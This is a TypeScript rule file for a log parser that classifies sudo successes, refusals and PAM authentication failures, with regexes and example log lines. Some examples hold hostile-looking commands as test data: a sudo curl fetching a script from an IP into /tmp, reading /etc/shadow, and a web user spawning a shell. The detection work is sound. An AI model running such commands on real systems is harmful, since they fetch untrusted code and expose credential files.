// sudo rules: commands run (priv.sudo) and refusals (wrong passwords, not in sudoers, password required). The user
// of a priv.* event is the one who asked for the privilege, not the target account.
import type { RuleSpec } from '../spec.js';

const S = String.raw;
const PAM_MODULES = S`pam_(?:unix|sss|ldap|krb5|winbind)`;

export const sudoRules: readonly RuleSpec[] = [
  {
    id: 'sudo.refused',
    family: 'sudo',
    description: 'sudo: N incorrect password attempts / user NOT in sudoers / a password is required / command not allowed',
    type: 'priv.sudo_failure',
    outcome: 'failure',
    programs: ['sudo'],
    literal: [' : '],
    pattern: S`^\s{0,16}(?<user>[^\s:]{1,64}) : (?:\d{1,4} incorrect password attempts?|user NOT in sudoers|user NOT authorized on host|a password is required|command not allowed|\d{1,4} password attempts?) ;`,
    examples: {
      match: [
        { message: 'bob : 3 incorrect password attempts ; TTY=pts/1 ; PWD=/home/bob ; USER=root ; COMMAND=/usr/bin/cat /etc/shadow', expect: { user: 'bob' } },
        { message: 'intern : user NOT in sudoers ; TTY=pts/2 ; PWD=/home/intern ; USER=root ; COMMAND=/bin/bash', expect: { user: 'intern' } },
        { message: '  deploy : a password is required ; TTY=unknown ; PWD=/srv/app ; USER=root ; COMMAND=/usr/bin/systemctl restart app', expect: { user: 'deploy' } },
        { message: 'alice : command not allowed ; TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/vim /etc/sudoers', expect: { user: 'alice' } },
        { message: 'bob : 1 incorrect password attempt ; TTY=pts/1 ; PWD=/home/bob ; USER=root ; COMMAND=/usr/bin/id', expect: { user: 'bob' } },
      ],
    },
  },
  {
    id: 'sudo.command',
    family: 'sudo',
    description: 'sudo: USER : TTY=... ; COMMAND=...: a command run with sudo (without a terminal, from a script or a remote command, sudo writes no TTY=)',
    type: 'priv.sudo',
    outcome: 'success',
    programs: ['sudo'],
    literal: 'COMMAND=',
    pattern: S`^\s{0,16}(?<user>[^\s:]{1,64}) : (?:TTY|PWD)=`,
    examples: {
      match: [
        { message: '  deploy : TTY=pts/0 ; PWD=/home/deploy ; USER=root ; COMMAND=/usr/bin/curl -fsSL http://203.0.113.45/x.sh -o /tmp/x.sh', expect: { user: 'deploy', type: 'priv.sudo' } },
        { message: 'root : TTY=pts/1 ; PWD=/root ; USER=postgres ; ENV=PGDATA=/var/lib/pgsql ; COMMAND=/usr/bin/psql', expect: { user: 'root' } },
        { message: '    root : PWD=/root ; USER=root ; COMMAND=/usr/bin/certbot renew -q', expect: { user: 'root', type: 'priv.sudo' } },
        { message: 'www-data : PWD=/var/www/html ; USER=root ; COMMAND=/bin/sh -c id', expect: { user: 'www-data', type: 'priv.sudo' } },
      ],
      noMatch: [
        'pam_unix(sudo:session): session opened for user root(uid=0) by deploy(uid=1001)',
        { program: 'bash', message: 'bob : TTY=pts/0 ; PWD=/home/bob ; USER=root ; COMMAND=/bin/ls' },
        'bob : 1 incorrect password attempt ; PWD=/home/bob ; USER=root ; COMMAND=/usr/bin/id',
      ],
    },
  },
  {
    id: 'sudo.pam_auth_failure',
    family: 'sudo',
    description: 'pam_unix(sudo:auth): authentication failure: a wrong password for sudo',
    type: 'priv.sudo_failure',
    outcome: 'failure',
    literal: ['(sudo:auth)', '(sudo-i:auth)'],
    pattern: S`^${PAM_MODULES}\(sudo(?:-i)?:auth\): authentication failure;(?:[^\n]{0,300}? user=(?<user>\S{1,64}))?`,
    examples: {
      match: [
        { program: 'sudo', message: 'pam_unix(sudo:auth): authentication failure; logname=bob uid=1000 euid=0 tty=/dev/pts/1 ruser=bob rhost=  user=bob', expect: { user: 'bob', ip: null } },
      ],
    },
  },
  {
    id: 'sudo.pam_auth_failure_old',
    family: 'sudo',
    description: 'sudo(pam_unix): authentication failure (old PAM style: the program names the service)',
    type: 'priv.sudo_failure',
    outcome: 'failure',
    programs: ['sudo'],
    literal: 'authentication failure; ',
    pattern: S`^authentication failure;(?:[^\n]{0,300}? user=(?<user>\S{1,64}))?`,
    examples: {
      match: [{ message: 'authentication failure; logname=bob uid=500 euid=0 tty=pts/1 ruser= rhost=  user=bob', expect: { user: 'bob' } }],
    },
  },
];
